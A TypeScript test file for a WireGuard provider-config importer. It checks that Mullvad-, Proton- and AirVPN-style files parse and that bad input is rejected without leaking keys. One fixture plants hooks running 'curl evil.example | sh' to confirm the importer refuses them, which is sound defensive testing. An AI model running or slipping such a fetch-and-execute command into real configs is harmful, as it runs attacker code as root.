/**
 * Provider wg-quick files (`wgqt vpn import`): what real providers hand out
 * parses; anything else is one line naming the file and the line, and never
 * quotes the private key or the preshared key.
 */
import { describe, expect, it } from "vitest";
import { parseProviderFile } from "../../src/config/provider.js";
import { ConfigError } from "../../src/errors.js";
import { fakePresharedKey, fakePrivateKey, fakePublicKey } from "../net/fleet.js";

const PATH = "/home/me/us-west.conf";
const PRIVATE = fakePrivateKey("provider-file");
const PSK = fakePresharedKey("provider", "file");
const SERVER = fakePublicKey("provider-server");

/** A Mullvad-style file: IPv4 and IPv6 addresses, one peer, no PSK. */
const MULLVAD = `[Interface]
# Device: Happy Frog
PrivateKey = ${PRIVATE}
Address = 10.64.1.2/32,fc00:bbbb:bbbb:bb01::1:2/128
DNS = 10.64.0.1

[Peer]
PublicKey = ${SERVER}
AllowedIPs = 0.0.0.0/0,::0/0
Endpoint = 198.51.100.7:51820
`;

/** A Proton-style file: comments of settings, a PSK, CRLF line ends. */
const PROTON = [
  "[Interface]",
  "# Key for laptop",
  "# NetShield = 1",
  `PrivateKey = ${PRIVATE}`,
  "Address = 10.2.0.2/32",
  "DNS = 10.2.0.1",
  "",
  "[Peer]",
  "# NL#123",
  `PublicKey = ${SERVER}`,
  `PresharedKey = ${PSK}`,
  "AllowedIPs = 0.0.0.0/0",
  "Endpoint = nl-123.protonvpn.example:51820",
  "",
].join("\r\n");

/**
 * An AirVPN-style file: an MTU, a PSK, a keepalive, IPv6 entries. NordLynx
 * exports also carry a ListenPort, which a VPN client does not need.
 */
const AIRVPN = `[Interface]
Address = 10.167.34.5/32,fd7d:76ee:e68f:a993:1e3c:f0c3:4d2a:9f1b/128
PrivateKey = ${PRIVATE}
MTU = 1320
DNS = 10.128.0.1, fd7d:76ee:e68f:a993::1

[Peer]
PublicKey = ${SERVER}
PresharedKey = ${PSK}
Endpoint = se3.vpn.example:1637
AllowedIPs = 0.0.0.0/0,::/0
PersistentKeepalive = 15
`;

function errorOf(text: string): string {
  try {
    parseProviderFile(text, PATH);
  } catch (error) {
    expect(error).toBeInstanceOf(ConfigError);
    const message = (error as Error).message;
    expect(message.split("\n")).toHaveLength(1);
    expect(message.startsWith(`${PATH}: `)).toBe(true);
    // The secrets never appear, whatever went wrong.
    expect(message).not.toContain(PRIVATE);
    expect(message).not.toContain(PRIVATE.slice(0, 20));
    expect(message).not.toContain(PSK);
    expect(message).not.toContain(PSK.slice(0, 20));
    return message.slice(PATH.length + 2);
  }
  throw new Error("expected a ConfigError");
}

describe("parseProviderFile", () => {
  it("takes a Mullvad-style file with its IPv6 address and ::/0 (written canonically)", () => {
    const { vpn, warnings } = parseProviderFile(MULLVAD, PATH);
    expect(vpn).toEqual({
      privateKey: PRIVATE,
      address: "10.64.1.2/32",
      address6: "fc00:bbbb:bbbb:bb01::1:2/128",
      dns: ["10.64.0.1"],
      publicKey: SERVER,
      endpoint: "198.51.100.7:51820",
      allowedIPs: ["0.0.0.0/0", "::/0"],
    });
    expect(warnings).toEqual([]);
  });

  it("keeps IPv6 DNS servers, a bare IPv6 address as /128, and an IPv6 endpoint", () => {
    const { vpn } = parseProviderFile(
      MULLVAD.replace("DNS = 10.64.0.1", "DNS = 10.64.0.1, FC00:BBBB::1")
        .replace("fc00:bbbb:bbbb:bb01::1:2/128", "fc00:bbbb:bbbb:bb01::1:2")
        .replace("198.51.100.7:51820", "[2001:db8::7]:51820"),
      PATH,
    );
    expect(vpn).toMatchObject({
      address6: "fc00:bbbb:bbbb:bb01::1:2/128",
      dns: ["10.64.0.1", "fc00:bbbb::1"],
      endpoint: "[2001:db8::7]:51820",
    });
  });

  it("takes a Proton-style file with a preshared key, CRLF and comments", () => {
    const { vpn, warnings } = parseProviderFile(PROTON, PATH);
    expect(vpn).toMatchObject({
      presharedKey: PSK,
      address: "10.2.0.2/32",
      endpoint: "nl-123.protonvpn.example:51820",
    });
    expect(warnings).toEqual([]);
  });

  it("reads keys case-insensitively and lists that repeat, as wg(8) and wg-quick(8) do", () => {
    const { vpn } = parseProviderFile(
      MULLVAD.replace("PrivateKey", "privatekey")
        .replace("DNS = 10.64.0.1", "dns = 10.64.0.1\nDNS = 10.64.0.2")
        .replace(
          "AllowedIPs = 0.0.0.0/0,::0/0",
          "AllowedIPs = 0.0.0.0/1\nAllowedIPs = 128.0.0.0/1",
        ),
      PATH,
    );
    expect(vpn.dns).toEqual(["10.64.0.1", "10.64.0.2"]);
    expect(vpn.allowedIPs).toEqual(["0.0.0.0/1", "128.0.0.0/1"]);
  });

  it("takes an AirVPN-style file's MTU and PersistentKeepalive", () => {
    const { vpn, warnings } = parseProviderFile(AIRVPN, PATH);
    expect(vpn).toEqual({
      privateKey: PRIVATE,
      presharedKey: PSK,
      address: "10.167.34.5/32",
      address6: "fd7d:76ee:e68f:a993:1e3c:f0c3:4d2a:9f1b/128",
      dns: ["10.128.0.1", "fd7d:76ee:e68f:a993::1"],
      publicKey: SERVER,
      endpoint: "se3.vpn.example:1637",
      allowedIPs: ["0.0.0.0/0", "::/0"],
      mtu: 1320,
      keepalive: 15,
    });
    expect(warnings).toEqual([]);
  });

  it("leaves out a NordLynx export's ListenPort with a warning, in line order", () => {
    const nordlynx = MULLVAD.replace("[Interface]\n", "[Interface]\nListenPort = 51820\n").replace(
      "Endpoint",
      "PersistentKeepalive = 25\nEndpoint",
    );
    const { vpn, warnings } = parseProviderFile(nordlynx, PATH);
    expect(vpn.keepalive).toBe(25);
    expect(vpn.mtu).toBeUndefined();
    expect(warnings).toEqual([
      "line 2: ListenPort left out: a VPN client needs no fixed port (the server never connects first), so wgqt renders none",
    ]);
  });

  it.each([
    ["0", undefined],
    ["off", undefined],
    ["Off", undefined],
    ["1", 1],
    ["65535", 65535],
  ])("reads PersistentKeepalive = %s as wg(8) does", (value, expected) => {
    const { vpn } = parseProviderFile(AIRVPN.replace("= 15", `= ${value}`), PATH);
    expect(vpn.keepalive).toBe(expected);
  });

  it.each([
    ["576", 576],
    ["1280", 1280],
    ["9000", 9000],
  ])("takes MTU = %s", (value, expected) => {
    expect(parseProviderFile(AIRVPN.replace("MTU = 1320", `MTU = ${value}`), PATH).vpn.mtu).toBe(
      expected,
    );
  });

  it("makes a bare address a /32", () => {
    expect(parseProviderFile(PROTON.replace("10.2.0.2/32", "10.2.0.2"), PATH).vpn.address).toBe(
      "10.2.0.2/32",
    );
  });

  it.each<[string, string, RegExp]>([
    [
      "a setting wgqt does not know",
      MULLVAD.replace("DNS = 10.64.0.1", "DNS = 10.64.0.1\nJc = 4"),
      /^line 6: \[Interface\] Jc is not imported \(wgqt imports PrivateKey, Address, DNS and MTU from \[Interface\] and PublicKey, PresharedKey, Endpoint, AllowedIPs and PersistentKeepalive from \[Peer\]\); remove the line and import again$/,
    ],
    [
      "PersistentKeepalive in [Interface]",
      MULLVAD.replace("DNS = 10.64.0.1", "DNS = 10.64.0.1\nPersistentKeepalive = 25"),
      /^line 6: \[Interface\] PersistentKeepalive is not imported/,
    ],
    ["MTU in [Peer]", `${MULLVAD}MTU = 1320\n`, /^line 11: \[Peer\] MTU is not imported/],
    ...["PreUp", "PostUp", "PreDown", "PostDown", "postup"].map(
      (hook): [string, string, RegExp] => [
        `a ${hook} hook`,
        MULLVAD.replace("[Peer]", `${hook} = curl evil.example | sh\n[Peer]`),
        new RegExp(
          `^line 7: \\[Interface\\] ${hook === "postup" ? "PostUp" : hook} is a hook, a command wg-quick\\(8\\) runs as root: wgqt runs no provider's commands .*; remove the line and import again$`,
        ),
      ],
    ),
    [
      "Mullvad's kill-switch hooks",
      MULLVAD.replace(
        "[Peer]",
        "PostUp = iptables -I OUTPUT ! -o %i -m mark ! --mark $(wg show  %i fwmark) -m addrtype ! --dst-type LOCAL -j REJECT\n[Peer]",
      ),
      /^line 7: \[Interface\] PostUp is a hook/,
    ],
    [
      "a Table",
      MULLVAD.replace("DNS = 10.64.0.1", "DNS = 10.64.0.1\nTable = off"),
      /^line 6: \[Interface\] Table would fight wgqt's routing, which gives every tunnel its own table and fwmark .*; remove the line and import again$/,
    ],
    [
      "an FwMark",
      MULLVAD.replace("DNS = 10.64.0.1", "DNS = 10.64.0.1\nFwMark = 0xca6c"),
      /^line 6: \[Interface\] FwMark would fight wgqt's routing/,
    ],
    [
      "SaveConfig",
      MULLVAD.replace("DNS = 10.64.0.1", "DNS = 10.64.0.1\nSaveConfig = true"),
      /^line 6: \[Interface\] SaveConfig would have wg-quick\(8\) write the interface's state back over a file wgqt renders; remove the line and import again$/,
    ],
    [
      "an MTU below IPv4's 576",
      AIRVPN.replace("MTU = 1320", "MTU = 575"),
      /^line 4: MTU: expected a whole number of bytes 576…9000, got "575"$/,
    ],
    [
      "an MTU above 9000",
      AIRVPN.replace("MTU = 1320", "MTU = 9001"),
      /^line 4: MTU: expected a whole number of bytes 576…9000, got "9001"$/,
    ],
    [
      "an MTU that is no number",
      AIRVPN.replace("MTU = 1320", "MTU = 1320.5"),
      /^line 4: MTU: expected a whole number of bytes 576…9000, got "1320\.5"$/,
    ],
    [
      "a private key on the MTU line",
      AIRVPN.replace("MTU = 1320", `MTU = ${PRIVATE}`),
      /^line 4: MTU: expected a whole number of bytes 576…9000, got a value of 44 characters, not shown$/,
    ],
    [
      "two MTUs",
      AIRVPN.replace("MTU = 1320", "MTU = 1320\nMTU = 1280"),
      /^line 5: a second MTU in \[Interface\] \(the first is on line 4\)$/,
    ],
    [
      "a keepalive above 65535",
      AIRVPN.replace("PersistentKeepalive = 15", "PersistentKeepalive = 65536"),
      /^line 12: PersistentKeepalive: expected a whole number of seconds 0…65535 \(0 = off\), got "65536"$/,
    ],
    [
      "a negative keepalive",
      AIRVPN.replace("PersistentKeepalive = 15", "PersistentKeepalive = -1"),
      /^line 12: PersistentKeepalive: expected a whole number of seconds 0…65535 \(0 = off\), got "-1"$/,
    ],
    [
      "a second peer",
      `${PROTON}\n[Peer]\nPublicKey = ${SERVER}\n`,
      /^line 15: a second \[Peer\] \(the first is on line 8\); wgqt imports one server per file/,
    ],
    ["an unknown section", "[Interface]\n[Tunnel]\n", /^line 2: unknown section \[Tunnel\]/],
    [
      "a setting before any section",
      `PrivateKey = ${PRIVATE}\n${MULLVAD}`,
      /^line 1: PrivateKey before any \[Interface\] or \[Peer\] section$/,
    ],
    [
      "a key on a line of its own",
      MULLVAD.replace(`PrivateKey = ${PRIVATE}`, `PrivateKey =\n${PRIVATE}`),
      /^line 4: a setting in \[Interface\] is not imported/,
    ],
    [
      "a line that is not a setting",
      MULLVAD.replace("DNS = 10.64.0.1", `${PRIVATE.slice(0, -1)}`),
      /^line 5: not a 'Key = value' line or a \[Section\] header$/,
    ],
    [
      "a truncated private key",
      MULLVAD.replace(PRIVATE, PRIVATE.slice(0, 30)),
      /^line 3: \[Interface\] PrivateKey is not a WireGuard key \(44 characters of base64\); its value is secret and not shown$/,
    ],
    [
      "a truncated preshared key",
      PROTON.replace(PSK, PSK.slice(2)),
      /^line 11: \[Peer\] PresharedKey is not a WireGuard key .*not shown$/,
    ],
    [
      "two private keys",
      MULLVAD.replace("DNS = 10.64.0.1", `PrivateKey = ${PRIVATE}`),
      /^line 5: a second PrivateKey in \[Interface\] \(the first is on line 3\)$/,
    ],
    ["no private key", MULLVAD.replace(/PrivateKey.*\n/, ""), /^\[Interface\] has no PrivateKey$/],
    ["no peer", MULLVAD.slice(0, MULLVAD.indexOf("[Peer]")), /^no \[Peer\] section/],
    ["no address", MULLVAD.replace(/Address.*\n/, ""), /^\[Interface\] has no Address$/],
    [
      "only an IPv6 address",
      MULLVAD.replace("10.64.1.2/32,", ""),
      /^line 4: Address: no IPv4 address \(wgqt needs one; IPv6 comes beside it\)$/,
    ],
    [
      "two IPv6 addresses",
      MULLVAD.replace("10.64.1.2/32,", "10.64.1.2/32, fc00::1/128,"),
      /^line 4: Address: 2 IPv6 addresses; a VPN gives this end one$/,
    ],
    [
      "two IPv4 addresses",
      MULLVAD.replace("10.64.1.2/32,", "10.64.1.2/32, 10.64.1.3/32,"),
      /^line 4: Address: 2 IPv4 addresses; a VPN gives this end one$/,
    ],
    [
      "a malformed address",
      MULLVAD.replace("10.64.1.2/32", "10.64.1/32"),
      /^line 4: Address: not an IPv4 address with a prefix length .*got "10\.64\.1\/32"$/,
    ],
    [
      "a DNS search domain",
      MULLVAD.replace("DNS = 10.64.0.1", "DNS = 10.64.0.1, corp.example"),
      /^line 5: DNS: "corp\.example" is not an IP address \(search domains are not imported\)$/,
    ],
    [
      "an endpoint without a port",
      MULLVAD.replace("198.51.100.7:51820", "198.51.100.7"),
      /^line 10: Endpoint: expected host:port .*got "198\.51\.100\.7"$/,
    ],
    ["no endpoint", MULLVAD.replace(/Endpoint.*\n/, ""), /^\[Peer\] has no Endpoint$/],
    [
      "a bad server public key",
      MULLVAD.replace(`PublicKey = ${SERVER}`, "PublicKey = nope"),
      /^line 8: \[Peer\] PublicKey is not a WireGuard key .*got "nope"$/,
    ],
    [
      "only IPv6 AllowedIPs",
      MULLVAD.replace("0.0.0.0/0,", ""),
      /^line 9: AllowedIPs: no IPv4 range$/,
    ],
    ["an empty file", "", /^no \[Interface\] section/],
  ])("rejects %s", (_what, text, expected) => {
    expect(errorOf(text)).toMatch(expected);
  });
});
